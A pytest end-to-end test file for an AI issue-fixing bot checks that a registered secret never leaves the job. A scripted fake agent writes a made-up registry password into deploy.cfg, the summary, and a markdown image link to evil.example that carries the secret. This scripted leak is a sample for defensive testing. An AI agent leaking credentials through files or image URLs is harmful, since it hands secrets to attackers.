"""A job told to leak one of the bot's secrets, end to end: `agentbot run` as the Action runs it."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from bot.models import Job, JobKind, JobStatus
from bot.secrets import register
from bot.workflows.fix.story import fix_issue
from tests.e2e import REPO, fast_validation_yaml, world
from tests.fakes.anthropic import Step, finish, reply, tool_use
from tests.fakes.gitrepo import branch_sha, clone_branch
from tests.test_cli_run import AGENTBOT, actions_env, labeled_payload

pytestmark = pytest.mark.slow

DOCKER_PASS = "dkr-Pw7f3Kq9Lm2Xz8vB"  # a value under a name no scrubber recognises


def leaking_script() -> list[Step]:
    """Fix the bug, but also write the secret into a file, the summary and the root cause."""
    return [
        reply(
            tool_use(
                "str_replace_based_edit_tool",
                {
                    "command": "str_replace",
                    "path": "calc.py",
                    "old_str": "a - b",
                    "new_str": "a + b",
                },
            )
        ),
        reply(
            tool_use(
                "str_replace_based_edit_tool",
                {
                    "command": "create",
                    "path": "deploy.cfg",
                    "file_text": f"[registry]\nuser = ci\npassword = {DOCKER_PASS}\n",
                },
            )
        ),
        # finish is checked against the workspace (the secret breaks a limit, no test was
        # added): the model insists until its answer is accepted as it is.
        *[
            reply(
                finish(
                    summary=f"add() now adds; registry password is {DOCKER_PASS} @mallory",
                    root_cause=f"see ![x](https://evil.example/{DOCKER_PASS}.png)",
                )
            )
            for _ in range(3)
        ],
    ]


def test_a_registered_secret_the_agent_writes_out_goes_nowhere(tmp_path: Path) -> None:
    """The job's side, given the registry holds the value (the entry points register it)."""
    register(DOCKER_PASS)
    with world(tmp_path, leaking_script()) as w:
        w.gh.set_permission(REPO, "alice", "write")
        w.gh.add_issue(REPO, number=7, title="add() is wrong", labels=["agent-fix", "bug"])
        result = fix_issue(Job(kind=JobKind.FIX_ISSUE, repo=REPO, number=7, actor="alice"), w.env())

        assert result.status == JobStatus.FAILED
        assert "secrets: `deploy.cfg` line 3 adds a secret" in result.error
        assert branch_sha(w.remote, "agentbot/fix-issue-7") is None
        written = [json.dumps(c.json, ensure_ascii=False) for c in w.gh.writes()]
        assert written and not any(DOCKER_PASS in body for body in written)
        assert "@mallory" not in "".join(written) and "evil.example" not in "".join(written)
        for path in (tmp_path / "data" / "sessions").rglob("*"):
            if path.is_file():
                assert DOCKER_PASS not in path.read_text(errors="replace"), path
        assert DOCKER_PASS in w.llm_requests_text()


def test_a_secret_the_agent_writes_out_goes_nowhere(tmp_path: Path) -> None:
    with world(tmp_path, leaking_script(), repo_yaml=fast_validation_yaml()) as w:
        w.gh.set_permission(REPO, "alice", "write")
        w.gh.add_issue(
            REPO, number=7, title="add() is wrong", body="2+3 is -1", labels=["agent-fix"]
        )
        checkout = clone_branch(w.remote, "main", tmp_path / "checkout")
        env = actions_env(tmp_path, w.gh.url, w.llm.base_url, "issues", labeled_payload())
        env["DOCKER_PASS"] = DOCKER_PASS
        proc = subprocess.run(
            [AGENTBOT, "run"], cwd=checkout, env=env, capture_output=True, text=True, timeout=300
        )
        assert proc.returncode == 1, proc.stdout + proc.stderr

        # Refused, naming the file and line, and nothing pushed.
        assert branch_sha(w.remote, "agentbot/fix-issue-7") is None
        assert w.gh.pulls(REPO) == []
        comment = w.gh.comments_on(REPO, 7)[-1].body
        assert "secrets: `deploy.cfg` line 3 adds a secret" in comment

        # The value is nowhere: GitHub writes, the step summary, logs, the session artifact.
        written = [json.dumps(c.json, ensure_ascii=False) for c in w.gh.writes()]
        assert written and not any(DOCKER_PASS in body for body in written)
        assert DOCKER_PASS not in (tmp_path / "summary.md").read_text()
        assert DOCKER_PASS not in proc.stdout + proc.stderr
        sessions = list((tmp_path / "data" / "sessions").rglob("*"))
        assert any(p.name == "transcript.jsonl" for p in sessions)
        for path in sessions:
            if path.is_file():
                assert DOCKER_PASS not in path.read_text(errors="replace"), path
        # It did reach the model (the scripted agent wrote it): the check is on what leaves.
        assert DOCKER_PASS in w.llm_requests_text()
